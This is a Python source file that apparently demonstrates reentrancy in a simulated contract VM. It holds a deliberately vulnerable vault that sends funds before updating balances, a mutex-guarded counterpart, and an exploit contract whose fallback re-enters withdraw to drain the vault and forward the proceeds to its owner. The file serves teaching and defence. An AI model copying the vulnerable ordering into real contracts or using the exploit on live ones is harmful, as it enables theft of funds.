"""Vault contracts for the reentrancy demonstration and its defence.

``VulnerableVault.withdraw`` pays out with a low-level send and only then
writes the caller's balance, using the value it read before the send. A
contract whose fallback calls ``withdraw`` again therefore sees the old
balance on every nested entry.

``GuardedVault`` uses the same ordering but protects its entry points with a
single per-contract mutex slot (the ``nonreentrant`` modifier), so a nested
entry reverts with ``reentrancy-blocked``.
"""

from __future__ import annotations

import functools
from typing import Any, Callable

from ..vm import Contract, Frame, external, prototype

GUARD_SLOT = "reentrancy_mutex"

# Gas the exploit keeps in hand before re-entering: enough for one more
# withdraw level plus the unwinding writes of the levels already open.
DEFAULT_REENTRY_GAS = 2_000


def nonreentrant(fn: Callable[..., Any]) -> Callable[..., Any]:
    @functools.wraps(fn)
    def guarded(self: Contract, ctx: Frame, *args: Any) -> Any:
        ctx.require(not ctx.load(GUARD_SLOT, default=False), "reentrancy-blocked")
        ctx.store(GUARD_SLOT, True)
        result = fn(self, ctx, *args)
        ctx.store(GUARD_SLOT, False)
        return result

    return guarded


def _check_amount(ctx: Frame, amount: Any, balance: int) -> None:
    ctx.require(isinstance(amount, int) and not isinstance(amount, bool), "bad-amount")
    ctx.require(0 < amount <= balance, "insufficient-balance")


@prototype
class VulnerableVault(Contract):
    prototype_name = "vulnerable_vault"

    @external
    def deposit(self, ctx: Frame) -> int:
        balance = ctx.load("balance", ctx.caller, default=0) + ctx.value
        ctx.store("balance", ctx.caller, balance)
        return balance

    @external
    def withdraw(self, ctx: Frame, amount: int) -> bool:
        balance = ctx.load("balance", ctx.caller, default=0)
        _check_amount(ctx, amount, balance)
        if ctx.send(ctx.caller, amount):
            ctx.store("balance", ctx.caller, balance - amount)
            return True
        return False

    @external
    def balance_of(self, ctx: Frame, who: str) -> int:
        return ctx.load("balance", who, default=0)


@prototype
class GuardedVault(Contract):
    prototype_name = "guarded_vault"

    def constructor(self, ctx: Frame) -> None:
        ctx.store(GUARD_SLOT, False)

    @external
    @nonreentrant
    def deposit(self, ctx: Frame) -> int:
        balance = ctx.load("balance", ctx.caller, default=0) + ctx.value
        ctx.store("balance", ctx.caller, balance)
        return balance

    @external
    @nonreentrant
    def withdraw(self, ctx: Frame, amount: int) -> bool:
        balance = ctx.load("balance", ctx.caller, default=0)
        _check_amount(ctx, amount, balance)
        ctx.require(ctx.send(ctx.caller, amount), "transfer-failed")
        ctx.store("balance", ctx.caller, balance - amount)
        return True

    @external
    def balance_of(self, ctx: Frame, who: str) -> int:
        return ctx.load("balance", who, default=0)

    @external
    def guard_flag(self, ctx: Frame) -> bool:
        return ctx.load(GUARD_SLOT, default=False)


@prototype
class Exploit(Contract):
    """Attacker that re-enters ``withdraw`` from its fallback."""

    prototype_name = "exploit"

    def constructor(self, ctx: Frame, vault: str, reentry_gas: int = DEFAULT_REENTRY_GAS) -> None:
        ctx.store("vault", vault)
        ctx.store("owner", ctx.caller)
        ctx.store("reentry_gas", reentry_gas)

    @external
    def attack(self, ctx: Frame, amount: int) -> None:
        vault = ctx.load("vault")
        ctx.store("amount", amount)
        ctx.call(vault, "deposit", value=ctx.value)
        ctx.call(vault, "withdraw", [amount])

    def fallback(self, ctx: Frame) -> None:
        vault = ctx.load("vault")
        if ctx.caller != vault:
            return
        amount = ctx.load("amount", default=0)
        reserve = ctx.load("reentry_gas")
        if amount and ctx.balance_of(vault) >= amount and ctx.gas_left() >= reserve:
            ctx.call(vault, "withdraw", [amount])

    @external
    def collect(self, ctx: Frame) -> int:
        owner = ctx.load("owner")
        ctx.require(ctx.caller == owner, "unauthorized")
        amount = ctx.self_balance
        if amount:
            ctx.require(ctx.send(owner, amount), "transfer-failed")
        return amount
